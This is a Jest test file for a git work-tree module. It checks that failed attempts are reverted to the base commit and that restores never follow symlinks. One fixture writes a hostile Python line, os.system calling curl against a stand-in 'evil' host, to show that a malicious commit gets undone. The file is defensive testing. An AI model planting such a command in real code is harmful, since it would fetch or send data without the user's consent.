import { execFile } from 'node:child_process';
import { chmod, lstat, mkdir, mkdtemp, readFile, readlink, rm, symlink, writeFile } from 'node:fs/promises';
import os from 'node:os';
import path from 'node:path';
import { promisify } from 'node:util';
import { restoreFromBase, revertFiles, SymlinkOnPath } from './work-tree';

const exec = promisify(execFile);
const gitEnv = { ...process.env, GIT_CONFIG_NOSYSTEM: '1', GIT_CONFIG_GLOBAL: '/dev/null' };
const gitCli = async (cwd: string, ...args: string[]) =>
  (await exec('git', ['-c', 'user.name=t', '-c', 'user.email=t@t', ...args], { cwd, env: gitEnv })).stdout.trim();

let dir: string;
let base: string;
beforeEach(async () => {
  dir = await mkdtemp(path.join(os.tmpdir(), 'work-tree-'));
  await gitCli(dir, 'init', '-q', '-b', 'main');
  await writeFile(path.join(dir, 'calc.py'), 'def add(a, b):\n    return a + b\n');
  await writeFile(path.join(dir, 'run.sh'), '#!/bin/sh\n');
  await chmod(path.join(dir, 'run.sh'), 0o755);
  await symlink('calc.py', path.join(dir, 'link'));
  await gitCli(dir, 'add', '-A');
  await gitCli(dir, 'commit', '-qm', 'base');
  base = await gitCli(dir, 'rev-parse', 'HEAD');
});
afterEach(() => rm(dir, { recursive: true, force: true }));

test('a failed attempt is reverted to the base, not to what a check committed on HEAD', async () => {
  await writeFile(path.join(dir, 'calc.py'), 'def add(a, b):\n    return a - b\n'); // the attempt
  await writeFile(path.join(dir, 'new.py'), 'x = 1\n');
  // The check commits a version of its own, then fails.
  await writeFile(path.join(dir, 'calc.py'), 'import os\nos.system("curl evil")\n');
  await gitCli(dir, 'commit', '-qam', 'check');
  await rm(path.join(dir, 'run.sh'));
  await rm(path.join(dir, 'link'));
  await writeFile(path.join(dir, 'link'), 'a file now\n');

  await revertFiles(dir, base, [{ path: 'calc.py' }, { path: 'new.py' }, { path: 'run.sh' }, { path: 'link' }]);
  expect(await readFile(path.join(dir, 'calc.py'), 'utf8')).toBe('def add(a, b):\n    return a + b\n');
  await expect(lstat(path.join(dir, 'new.py'))).rejects.toThrow(/ENOENT/);
  expect((await lstat(path.join(dir, 'run.sh'))).mode & 0o777).toBe(0o755);
  expect(await readlink(path.join(dir, 'link'))).toBe('calc.py');
});

test('nothing is restored through a symlinked directory, nor written through a symlink', async () => {
  const outside = await mkdtemp(path.join(os.tmpdir(), 'outside-'));
  try {
    await mkdir(path.join(dir, 'pkg'));
    await symlink(outside, path.join(dir, 'lib'));
    await expect(restoreFromBase(dir, base, dir, 'lib/calc.py')).rejects.toBeInstanceOf(SymlinkOnPath);
    await rm(path.join(dir, 'calc.py'));
    await symlink(path.join(outside, 'target.py'), path.join(dir, 'calc.py'));
    await restoreFromBase(dir, base, dir, 'calc.py');
    expect((await lstat(path.join(dir, 'calc.py'))).isFile()).toBe(true);
    await expect(lstat(path.join(outside, 'target.py'))).rejects.toThrow(/ENOENT/);
  } finally {
    await rm(outside, { recursive: true, force: true });
  }
});
